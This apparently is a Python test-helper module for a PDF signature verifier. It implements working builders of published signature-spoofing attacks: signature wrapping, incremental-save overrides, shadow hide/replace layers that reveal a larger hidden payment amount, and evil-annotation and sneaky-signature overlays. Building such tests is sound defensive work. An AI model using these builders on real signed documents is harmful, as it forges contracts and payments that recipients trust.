"""Builders of the known attacks on PDF signatures, for the verifier's attack tests.

Each builder takes a document signed by Kyso (or builds the unsigned base an attack
needs) and returns the manipulated bytes. The attacks come from:

- Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, "1 Trillion Dollar Refund: How
  To Spoof PDF Signatures", ACM CCS 2019 (USF, SWA, ISA);
- Mainka, Mladenov, Rohlmann, "Shadow Attacks: Hiding and Replacing Content in Signed
  PDFs", NDSS 2021 (hide, replace, hide-and-replace);
- Rohlmann, Mladenov, Mainka, Schwenk, "Breaking the Specification: PDF Certification",
  IEEE S&P 2021 (evil annotation, sneaky signature);
- pyHanko's own test suite (``pyhanko-tests``: malformed ByteRange and /Contents,
  diff-analysis cases), whose cases several builders mirror.

Most builders edit bytes in place with replacements of the same length, so the xref
offsets of the signed file stay right and what the verifier meets is the attack itself,
not a broken file. Updates that must look legitimate are written as real incremental
updates (a new xref section with ``/Prev``), either by pyHanko's writer or by hand.
"""

from __future__ import annotations

import re
from io import BytesIO

from asn1crypto import cms
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

from bench.signer_bench import assemble_pdf

_CONTENTS = re.compile(rb"/Contents\s*<([0-9A-Fa-f]*)>")
_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]\s*")
_STARTXREF = re.compile(rb"startxref\s+(\d+)\s+%%EOF")

# -- locating the first signature -------------------------------------------------------


def _byte_range(data: bytes) -> tuple[int, int, int, int]:
    found = _BYTE_RANGE.search(data)
    assert found is not None, "no /ByteRange in the document"
    a, b, c, d = (int(x) for x in found.groups())
    return a, b, c, d


def _contents_span(data: bytes) -> tuple[int, int]:
    """Start and end of the first ``/Contents <hex>`` entry (key included)."""
    found = _CONTENTS.search(data)
    assert found is not None, "no /Contents hex string in the document"
    return found.start(), found.end()


def _byte_range_span(data: bytes) -> tuple[int, int]:
    """Start and end of the first ``/ByteRange [...]`` entry with its space padding."""
    found = _BYTE_RANGE.search(data)
    assert found is not None
    return found.start(), found.end()


def _splice(data: bytes, start: int, end: int, replacement: bytes) -> bytes:
    """``data[start:end]`` replaced by ``replacement`` padded with spaces to the same length:
    every offset in the file stays valid."""
    assert len(replacement) <= end - start, (replacement, end - start)
    return data[:start] + replacement.ljust(end - start, b" ") + data[end:]


def _with_contents(data: bytes, value: bytes) -> bytes:
    start, end = _contents_span(data)
    return _splice(data, start, end, b"/Contents " + value)


def _with_cms(data: bytes, der: bytes) -> bytes:
    """The /Contents hex string holding ``der``, zero-padded to the original length."""
    start, end = _contents_span(data)
    width = end - start - len(b"/Contents <>")
    body = der.hex().upper().encode().ljust(width, b"0")
    assert len(body) == width
    return _splice(data, start, end, b"/Contents <" + body + b">")


def _with_byte_range(data: bytes, value: bytes) -> bytes:
    start, end = _byte_range_span(data)
    return _splice(data, start, end, b"/ByteRange " + value + b"\n")


def _signed_cms(data: bytes) -> cms.ContentInfo:
    start, end = _contents_span(data)
    found = _CONTENTS.match(data, start, end)
    assert found is not None
    raw = bytes.fromhex(found.group(1).decode())
    return cms.ContentInfo.load(raw.rstrip(b"\x00") + b"\x00\x00", strict=False)


# -- 1. universal signature forgery (USF, CCS 2019 section 4.1) -------------------------


def contents_missing(data: bytes) -> bytes:
    """USF: the signature dictionary has no /Contents at all (CCS 2019, USF variant 1)."""
    start, end = _contents_span(data)
    return _splice(data, start, end, b"")


def contents_empty(data: bytes) -> bytes:
    """USF: /Contents is an empty hex string ``<>`` (CCS 2019, USF)."""
    return _with_contents(data, b"<>")


def contents_null(data: bytes) -> bytes:
    """USF: /Contents is ``null`` (CCS 2019, USF; pyhanko-tests ``test_sig_no_contents``)."""
    return _with_contents(data, b"null")


def contents_not_hex(data: bytes) -> bytes:
    """USF: /Contents is a hex string with non-hex characters, same length."""
    start, end = _contents_span(data)
    width = end - start - len(b"/Contents <>")
    return _splice(data, start, end, b"/Contents <" + b"Z" * width + b">")


def contents_literal_string(data: bytes) -> bytes:
    """USF: /Contents is a literal string instead of the hex-encoded CMS."""
    return _with_contents(data, b"(not a CMS)")


def contents_truncated_cms(data: bytes) -> bytes:
    """USF: the CMS cut short in its certificates, zeros after (an interrupted or doctored
    signing): no signer information is left."""
    der = _signed_cms(data).dump()
    return _with_cms(data, der[: len(der) // 4])


def contents_without_signer(data: bytes) -> bytes:
    """USF: a well-formed SignedData with the certificates but no SignerInfo (CCS 2019:
    "signature without signer"; pyhanko-tests has the same case)."""
    info = _signed_cms(data)
    signed_data = info["content"]
    signed_data["signer_infos"] = cms.SignerInfos([])
    return _with_cms(
        data, cms.ContentInfo({"content_type": "signed_data", "content": signed_data}).dump()
    )


def contents_from_other_document(data: bytes, other: bytes) -> bytes:
    """USF/replay: the CMS of another document signed by the same key copied in."""
    return _with_cms(data, _signed_cms(other).dump())


def byte_range_missing(data: bytes) -> bytes:
    """USF: no /ByteRange in the signature dictionary (CCS 2019, USF variant 2)."""
    start, end = _byte_range_span(data)
    return _splice(data, start, end, b"\n")


def byte_range_null(data: bytes) -> bytes:
    """USF: /ByteRange is ``null``."""
    return _with_byte_range(data, b"null")


def byte_range_three_numbers(data: bytes) -> bytes:
    """USF: /ByteRange with three numbers instead of four."""
    a, b, c, _ = _byte_range(data)
    return _with_byte_range(data, b"[%d %d %d]" % (a, b, c))


def byte_range_six_numbers(data: bytes) -> bytes:
    """USF: /ByteRange with six numbers (a third range after the signed ones)."""
    a, b, c, d = _byte_range(data)
    return _with_byte_range(data, b"[%d %d %d %d %d %d]" % (a, b, c, d, c + d, 0))


def byte_range_negative(data: bytes) -> bytes:
    """USF: a negative length in /ByteRange."""
    a, b, c, d = _byte_range(data)
    return _with_byte_range(data, b"[%d %d %d -%d]" % (a, b, c, d))


def byte_range_overlapping(data: bytes) -> bytes:
    """USF: the second range starts inside the first one."""
    a, b, c, d = _byte_range(data)
    return _with_byte_range(data, b"[%d %d %d %d]" % (a, b, b // 2, c + d - b // 2))


def byte_range_not_from_start(data: bytes) -> bytes:
    """USF: the first range starts after the file header (the header is left unsigned)."""
    a, b, c, d = _byte_range(data)
    return _with_byte_range(data, b"[%d %d %d %d]" % (a + 9, b - 9, c, d))


def byte_range_over_hole(data: bytes) -> bytes:
    """USF: one range over the whole signed revision, /Contents hole included."""
    a, _, c, d = _byte_range(data)
    return _with_byte_range(data, b"[%d %d 0 0]" % (a, c + d))


def byte_range_past_eof(data: bytes) -> bytes:
    """USF: the second range ends far past the end of the file."""
    a, b, c, d = _byte_range(data)
    return _with_byte_range(data, b"[%d %d %d %d]" % (a, b, c, d + 10 * len(data)))


def byte_range_shortened(data: bytes) -> bytes:
    """USF (partial coverage): the second range stops before the signed revision ends."""
    a, b, c, d = _byte_range(data)
    return _with_byte_range(data, b"[%d %d %d %d]" % (a, b, c, d // 2))


# -- 2. signature wrapping (SWA, CCS 2019 section 4.3) ----------------------------------


def signature_wrapping(data: bytes) -> bytes:
    """SWA: the second signed range is moved to the end of the file, inside a stream
    object nobody references; the signature dictionary is closed early with a new
    /ByteRange pointing at the moved bytes, and the room gained carries a forged page
    content. A fresh xref section (with /Prev to the unsigned original revision) makes the
    whole file strictly parseable. The signed bytes are exactly the original ones, so the
    CMS digest still matches."""
    a, b, c, d = _byte_range(data)
    first, hole, second = data[:b], data[b:c], data[c : c + d]
    reader = PdfFileReader(BytesIO(data[: c + d]))
    sig_ref = reader.embedded_signatures[0].sig_object.container_ref
    prev = _previous_xref(data, b)
    out = bytearray(first + hole)
    out += b"\n/Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached\n"
    byte_range_at = len(out)
    out += b"/ByteRange [0000000000 0000000000 0000000000 0000000000]\n>>\nendobj\n"
    offsets = {sig_ref.idnum: data.rfind(b"%d 0 obj" % sig_ref.idnum, 0, b)}
    page_ref = reader.find_page_for_modification(0)[0]
    page = page_ref.get_object()
    forged_number = int(reader.trailer_view["/Size"])
    offsets[forged_number] = len(out)
    forged = b"BT /F1 14 Tf 72 770 Td (Forged by wrapping) Tj ET"
    out += b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        forged_number,
        len(forged),
        forged,
    )
    page["/Contents"] = generic.IndirectObject(forged_number, 0, reader)
    offsets[page_ref.idnum] = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (page_ref.idnum, _serialised(page))
    wrapper = forged_number + 1
    offsets[wrapper] = len(out)
    out += b"%d 0 obj\n<< /Length %d >>\nstream\n" % (wrapper, d)
    moved_at = len(out)
    out += second + b"\nendstream\nendobj\n"
    for ref in _objects_defined_in(reader, exclude={sig_ref.idnum, page_ref.idnum}):
        at = _locate_object(data, ref, 0, c + d)
        offsets[ref] = at if at < b else at - c + moved_at
    new_range = b"[%010d %010d %010d %010d]" % (a, b, moved_at, d)
    out[
        byte_range_at + len(b"/ByteRange ") : byte_range_at + len(b"/ByteRange ") + len(new_range)
    ] = new_range
    root = reader.trailer_view.raw_get("/Root")
    return _finish_update(bytes(out), offsets, size=wrapper + 1, root=root.idnum, prev=prev)


# -- 3. incremental saving attacks (ISA, CCS 2019 section 4.2) --------------------------


def isa_add_page(data: bytes) -> bytes:
    """ISA: a proper incremental update that appends a second page with forged text."""
    writer = IncrementalPdfFileWriter(BytesIO(data))
    page = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Page"),
            generic.NameObject("/MediaBox"): generic.ArrayObject(
                [generic.NumberObject(x) for x in (0, 0, 595, 842)]
            ),
            generic.NameObject("/Contents"): writer.add_object(
                generic.StreamObject(stream_data=b"BT 72 770 Td (Appendix: forged) Tj ET")
            ),
            generic.NameObject("/Resources"): generic.DictionaryObject(),
        }
    )
    writer.insert_page(page)
    return _written(writer)


def isa_replace_catalog(data: bytes) -> bytes:
    """ISA: the update defines a new catalog and page tree (new object numbers) and points
    the trailer's /Root at them; no signed object is touched."""
    size = _size(data)
    catalog, pages, page, content = size, size + 1, size + 2, size + 3
    forged = b"BT /F1 14 Tf 72 770 Td (A whole new document) Tj ET"
    objects = {
        catalog: b"<< /Type /Catalog /Pages %d 0 R >>" % pages,
        pages: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page,
        page: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> "
        b">> >> /Contents %d 0 R >>" % (pages, content),
        content: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(forged), forged),
    }
    return append_update(data, objects, root=catalog)


def isa_override_content(data: bytes) -> bytes:
    """ISA: the update redefines the page's content stream under its own object number
    (the signed object is overridden rather than a new one referenced)."""
    reader = PdfFileReader(BytesIO(data))
    ref = _page(reader).raw_get("/Contents")
    forged = b"BT /F1 14 Tf 72 770 Td (Overridden content) Tj ET"
    return append_update(
        data, {ref.idnum: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(forged), forged)}
    )


def isa_without_xref(data: bytes) -> bytes:
    """ISA: a redefined content object appended with no xref and no trailer, then a
    ``startxref`` to the old xref and ``%%EOF``: lenient viewers take the last definition
    of an object (CCS 2019, ISA variant without xref/trailer)."""
    reader = PdfFileReader(BytesIO(data))
    ref = _page(reader).raw_get("/Contents")
    forged = b"BT /F1 14 Tf 72 770 Td (No xref needed) Tj ET"
    last = _STARTXREF.findall(data)[-1]
    return (
        data
        + b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (ref.idnum, len(forged), forged)
        + b"startxref\n"
        + last
        + b"\n%%EOF\n"
    )


def isa_trailer_only(data: bytes) -> bytes:
    """ISA: a redefined object and a new trailer (pointing at the old xref) but no xref
    section of its own (CCS 2019, ISA variant 2)."""
    reader = PdfFileReader(BytesIO(data))
    ref = _page(reader).raw_get("/Contents")
    forged = b"BT /F1 14 Tf 72 770 Td (Trailer only) Tj ET"
    last = _STARTXREF.findall(data)[-1]
    return (
        data
        + b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (ref.idnum, len(forged), forged)
        + b"trailer\n<< /Size %d /Root 1 0 R /Prev %s >>\nstartxref\n%s\n%%%%EOF\n"
        % (_size(data), last, last)
    )


def isa_signature_value_copied(data: bytes) -> bytes:
    """ISA: the signature field's /V redirected to a copy of the signature dictionary in
    the update (the same CMS and ByteRange, in a new object)."""
    reader = PdfFileReader(BytesIO(data))
    embedded = reader.embedded_signatures[0]
    field_ref = embedded.sig_field.container_ref
    start, end = _object_span(data, embedded.sig_object.container_ref.idnum)
    body = data[start:end]
    body = body[body.index(b"obj") + 3 : body.rindex(b"endobj")].strip()
    copy = _size(data)
    field = embedded.sig_field
    field["/V"] = generic.IndirectObject(copy, 0, reader)
    return append_update(data, {copy: body, field_ref.idnum: _serialised(field)}, size=copy + 1)


def isa_signature_value_removed(data: bytes) -> bytes:
    """ISA: the update empties the signature field (/V removed) and changes the page: the
    signature disappears along with the proof of what was signed."""
    reader = PdfFileReader(BytesIO(data))
    embedded = reader.embedded_signatures[0]
    field = embedded.sig_field
    field_ref = field.container_ref
    del field["/V"]
    page_ref = reader.find_page_for_modification(0)[0]
    content_ref = page_ref.get_object().raw_get("/Contents")
    forged = b"BT /F1 14 Tf 72 770 Td (Unsigned now) Tj ET"
    return append_update(
        data,
        {
            field_ref.idnum: _serialised(field),
            content_ref.idnum: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(forged), forged),
        },
    )


# -- 4. shadow attacks (NDSS 2021) ------------------------------------------------------

SHADOW_TEXT = b"So tien: 1.000 VND"
"""What the shadow base document shows when it is signed."""
HIDDEN_TEXT = b"So tien: 1.000.000.000 VND"
"""What its hidden layer says; the attacks reveal it after signing."""
_HIDDEN_PAGE = b"BT /F1 14 Tf 72 770 Td (" + HIDDEN_TEXT + b") Tj ET q /Cover Do Q"
_COVER = b"1 1 1 rg 60 760 500 30 re f BT 0 0 0 rg /F1 14 Tf 72 770 Td (" + SHADOW_TEXT + b") Tj ET"
_FIELD_AP = b"/Tx BMC BT /F1 12 Tf 2 6 Td (" + SHADOW_TEXT + b") Tj ET EMC"
_DORMANT = b"BT /F1 14 Tf 72 770 Td (Dormant content: " + HIDDEN_TEXT + b") Tj ET"
SHADOW_OBJECTS = {
    "catalog": 1,
    "page": 3,
    "font": 4,
    "content": 5,
    "cover": 6,
    "field_ap": 7,
    "ocg": 8,
    "field": 9,
    "acroform": 10,
}
"""Object numbers in :func:`shadow_base` (the signer appends after them)."""


def _stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(body), extra, body)


def shadow_base() -> bytes:
    """An unsigned one-page document prepared for the shadow attacks (NDSS 2021, section
    4): the page text says :data:`HIDDEN_TEXT`, covered by a white form XObject (in an
    optional content group that is ON) that shows :data:`SHADOW_TEXT`; a text form field
    shows the same value; and a second, dormant body of the content object ``5 0 obj``
    sits in the file outside any xref, ready for hide-and-replace."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm 10 0 R "
        b"/OCProperties << /OCGs [8 0 R] /D << /ON [8 0 R] /OFF [] /Order [8 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 4 0 R >> /XObject << /Cover 6 0 R >> >> "
        b"/Contents 5 0 R /Annots [9 0 R] >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        _stream(_HIDDEN_PAGE),
        _stream(
            _COVER,
            b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /OC 8 0 R "
            b"/Resources << /Font << /F1 4 0 R >> >> ",
        ),
        _stream(
            _FIELD_AP,
            b"/Type /XObject /Subtype /Form /BBox [0 0 228 20] "
            b"/Resources << /Font << /F1 4 0 R >> >> ",
        ),
        b"<< /Type /OCG /Name (Cover) >>",
        b"<< /FT /Tx /T (amount) /V (" + SHADOW_TEXT + b") /DA (/F1 12 Tf 0 g) "
        b"/Type /Annot /Subtype /Widget /Rect [72 700 300 720] /F 4 /P 3 0 R "
        b"/AP << /N 7 0 R >> >>",
        b"<< /Fields [9 0 R] /DA (/F1 12 Tf 0 g) /DR << /Font << /F1 4 0 R >> >> >>",
    ]
    plain = assemble_pdf(objects)
    # The dormant body goes right before the xref: present in the signed bytes, unused.
    xref_at = plain.rindex(b"\nxref\n") + 1
    dormant = b"5 0 obj\n" + _stream(_DORMANT) + b"\nendobj\n"
    startxref = int(_STARTXREF.findall(plain)[-1])
    return (
        plain[:xref_at]
        + dormant
        + plain[xref_at:].replace(
            b"startxref\n%d" % startxref, b"startxref\n%d" % (startxref + len(dormant))
        )
    )


def shadow_hide_overlay_emptied(data: bytes) -> bytes:
    """Shadow hide (NDSS 2021, variant "hide via overlay"): the covering XObject is
    overridden by an empty one, revealing the text beneath."""
    empty = _stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] ")
    return append_update(data, {SHADOW_OBJECTS["cover"]: empty})


def shadow_hide_overlay_unreferenced(data: bytes) -> bytes:
    """Shadow hide: the page's /Resources lose the covering XObject (a dictionary edit only:
    ``/Cover Do`` then paints nothing), revealing the text beneath."""
    reader = PdfFileReader(BytesIO(data))
    page = reader.get_object(generic.Reference(SHADOW_OBJECTS["page"], 0))
    resources = page["/Resources"]
    resources["/XObject"] = generic.DictionaryObject()
    page["/Resources"] = resources
    return append_update(data, {SHADOW_OBJECTS["page"]: _serialised(page)})


def shadow_hide_optional_content_off(data: bytes) -> bytes:
    """Shadow hide via optional content: the update only switches the covering layer OFF
    in the catalog's /OCProperties."""
    reader = PdfFileReader(BytesIO(data))
    root = reader.root
    ocg = generic.IndirectObject(SHADOW_OBJECTS["ocg"], 0, reader)
    root["/OCProperties"] = generic.DictionaryObject(
        {
            generic.NameObject("/OCGs"): generic.ArrayObject([ocg]),
            generic.NameObject("/D"): generic.DictionaryObject(
                {
                    generic.NameObject("/ON"): generic.ArrayObject([]),
                    generic.NameObject("/OFF"): generic.ArrayObject([ocg]),
                    generic.NameObject("/Order"): generic.ArrayObject([ocg]),
                }
            ),
        }
    )
    return append_update(data, {SHADOW_OBJECTS["catalog"]: _serialised(root)})


def shadow_replace_form_value(data: bytes) -> bytes:
    """Shadow replace (NDSS 2021, "replace via form"): the text field's /V and its
    appearance stream are changed to the attacker's value by an update."""
    reader = PdfFileReader(BytesIO(data))
    field = reader.get_object(generic.Reference(SHADOW_OBJECTS["field"], 0))
    field["/V"] = generic.TextStringObject(HIDDEN_TEXT.decode())
    appearance = _FIELD_AP.replace(SHADOW_TEXT, HIDDEN_TEXT)
    ap_extra = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 228 20] /Resources << /Font << /F1 4 0 R >> >> "
    )
    return append_update(
        data,
        {
            SHADOW_OBJECTS["field"]: _serialised(field),
            SHADOW_OBJECTS["field_ap"]: _stream(appearance, ap_extra),
        },
    )


def shadow_replace_font(data: bytes) -> bytes:
    """Shadow replace (NDSS 2021, "replace via overlay/font"): the font object is
    overridden with an encoding that draws other glyphs for the same signed codes."""
    font = (
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica "
        b"/Encoding << /Type /Encoding /Differences [49 /nine /nine] >> >>"
    )
    return append_update(data, {SHADOW_OBJECTS["font"]: font})


def shadow_hide_and_replace(data: bytes) -> bytes:
    """Shadow hide-and-replace (NDSS 2021, section 4.3): the update holds no object at all,
    only an xref section that points ``5 0 obj`` at the dormant body already in the signed
    bytes — every byte the attacker adds is a valid-looking xref/trailer."""
    start = data.index(b"5 0 obj\n<< /Length %d" % len(_DORMANT))
    return append_update(data, {}, relocated={SHADOW_OBJECTS["content"]: start})


# -- 5. certification attacks (S&P 2021) ------------------------------------------------


def evil_annotation(data: bytes) -> bytes:
    """Evil annotation attack (S&P 2021, EAA): a FreeText annotation whose appearance paints
    a white box and new text over the page, added after a certification signature."""
    writer = IncrementalPdfFileWriter(BytesIO(data))
    appearance = generic.StreamObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/XObject"),
            generic.NameObject("/Subtype"): generic.NameObject("/Form"),
            generic.NameObject("/BBox"): generic.ArrayObject(
                [generic.NumberObject(x) for x in (0, 0, 500, 40)]
            ),
            generic.NameObject("/Resources"): generic.DictionaryObject(
                {
                    generic.NameObject("/Font"): generic.DictionaryObject(
                        {
                            generic.NameObject("/F1"): generic.DictionaryObject(
                                {
                                    generic.NameObject("/Type"): generic.NameObject("/Font"),
                                    generic.NameObject("/Subtype"): generic.NameObject("/Type1"),
                                    generic.NameObject("/BaseFont"): generic.NameObject(
                                        "/Helvetica"
                                    ),
                                }
                            )
                        }
                    )
                }
            ),
        },
        stream_data=b"1 1 1 rg 0 0 500 40 re f BT 0 0 0 rg /F1 14 Tf 4 14 Td (Forged) Tj ET",
    )
    annotation = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
            generic.NameObject("/Rect"): generic.ArrayObject(
                [generic.NumberObject(x) for x in (60, 750, 560, 790)]
            ),
            generic.NameObject("/Contents"): generic.TextStringObject("Forged"),
            generic.NameObject("/DA"): generic.TextStringObject("/Helv 14 Tf 0 g"),
            generic.NameObject("/F"): generic.NumberObject(4),
            generic.NameObject("/AP"): generic.DictionaryObject(
                {generic.NameObject("/N"): writer.add_object(appearance)}
            ),
        }
    )
    writer.register_annotation(writer.find_page_for_modification(0)[0], annotation)
    return _written(writer)


def sneaky_signature_field(data: bytes) -> bytes:
    """Sneaky signature attack (S&P 2021, SSA): a new, unsigned signature field whose widget
    appearance paints arbitrary content over the page, added after a certification."""
    reader = PdfFileReader(BytesIO(data))
    size = _size(data)
    field, appearance = size, size + 1
    page_ref = reader.find_page_for_modification(0)[0]
    page = page_ref.get_object()
    annots = page.get("/Annots", generic.ArrayObject())
    annots.append(generic.IndirectObject(field, 0, reader))
    page["/Annots"] = annots
    acroform_ref = reader.root.raw_get("/AcroForm")
    assert isinstance(acroform_ref, generic.IndirectObject), "AcroForm must be indirect"
    acroform = acroform_ref.get_object()
    acroform["/Fields"].append(generic.IndirectObject(field, 0, reader))
    painted = b"1 1 1 rg 0 0 500 40 re f BT 0 0 0 rg /Helv 14 Tf 4 14 Td (Sneaky forged text) Tj ET"
    objects = {
        field: b"<< /FT /Sig /T (Sneaky) /Type /Annot /Subtype /Widget /F 4 "
        b"/Rect [60 750 560 790] /P %d 0 R /AP << /N %d 0 R >> >>" % (page_ref.idnum, appearance),
        appearance: _stream(
            painted,
            b"/Type /XObject /Subtype /Form /BBox [0 0 500 40] /Resources << /Font << /Helv "
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> ",
        ),
        page_ref.idnum: _serialised(page),
        acroform_ref.idnum: _serialised(acroform),
    }
    return append_update(data, objects, size=appearance + 1)


# -- 6. bytes after the last revision ---------------------------------------------------


def appended_whitespace(data: bytes) -> bytes:
    """Allowed: only whitespace after the final %%EOF (a transfer may add line ends)."""
    return data + b"\r\n \n\t\n"


def appended_comment(data: bytes) -> bytes:
    """Appended junk as a PDF comment line: no object, but not whitespace either."""
    return data + b"% appended by someone after signing\n"


def appended_eof(data: bytes) -> bytes:
    """A second ``%%EOF`` after the final one."""
    return data + b"%%EOF\n"


def appended_object(data: bytes) -> bytes:
    """A whole object (a new content for the page) appended with no xref and no trailer."""
    reader = PdfFileReader(BytesIO(data))
    ref = _page(reader).raw_get("/Contents")
    forged = b"BT /F1 14 Tf 72 770 Td (Appended object) Tj ET"
    return data + b"%d 0 obj\n%s\nendobj\n" % (
        ref.idnum,
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(forged), forged),
    )


# -- writing updates by hand ------------------------------------------------------------


def append_update(
    data: bytes,
    objects: dict[int, bytes],
    *,
    root: int | None = None,
    size: int | None = None,
    relocated: dict[int, int] | None = None,
) -> bytes:
    """``data`` with one classic incremental update: ``objects`` (number -> body) written
    out, plus xref entries that point existing numbers at ``relocated`` offsets."""
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    offsets = dict(relocated or {})
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    reader = PdfFileReader(BytesIO(data))
    root_number = root if root is not None else reader.trailer_view.raw_get("/Root").idnum
    new_size = max(size or 0, _size(data), *(n + 1 for n in offsets))
    return _finish_update(
        bytes(out), offsets, size=new_size, root=root_number, prev=_last_xref(data)
    )


def _finish_update(
    data: bytes, offsets: dict[int, int], *, size: int, root: int, prev: int
) -> bytes:
    out = bytearray(data)
    xref = len(out)
    out += b"xref\n"
    for number in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        root,
        prev,
        xref,
    )
    return bytes(out)


def _page(reader: PdfFileReader) -> generic.DictionaryObject:
    page = reader.find_page_for_modification(0)[0].get_object()
    assert isinstance(page, generic.DictionaryObject)
    return page


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _serialised(obj: generic.PdfObject) -> bytes:
    stream = BytesIO()
    obj.write_to_stream(stream, None)
    return stream.getvalue()


def _size(data: bytes) -> int:
    return int(PdfFileReader(BytesIO(data)).trailer_view["/Size"])


def _last_xref(data: bytes) -> int:
    return int(_STARTXREF.findall(data)[-1])


def _previous_xref(data: bytes, before: int) -> int:
    """The xref offset named by the last ``startxref`` before ``before``."""
    found = [m for m in _STARTXREF.finditer(data) if m.end() <= before]
    assert found, "no revision before the signature"
    return int(found[-1].group(1))


def _locate_object(data: bytes, number: int, start: int, end: int) -> int:
    found = [m.start() for m in re.finditer(rb"(?<![0-9])%d 0 obj" % number, data[start:end])]
    assert found, number
    return start + found[-1]


def _object_span(data: bytes, number: int) -> tuple[int, int]:
    start = _locate_object(data, number, 0, len(data))
    return start, data.index(b"endobj", start) + len(b"endobj")


def _objects_defined_in(reader: PdfFileReader, *, exclude: set[int]) -> list[int]:
    """Object numbers the signing revision (the last of ``reader``) defines, but ``exclude``."""
    last = reader.xrefs.total_revisions - 1
    changed = reader.xrefs.explicit_refs_in_revision(last)
    return sorted({ref.idnum for ref in changed} - exclude)
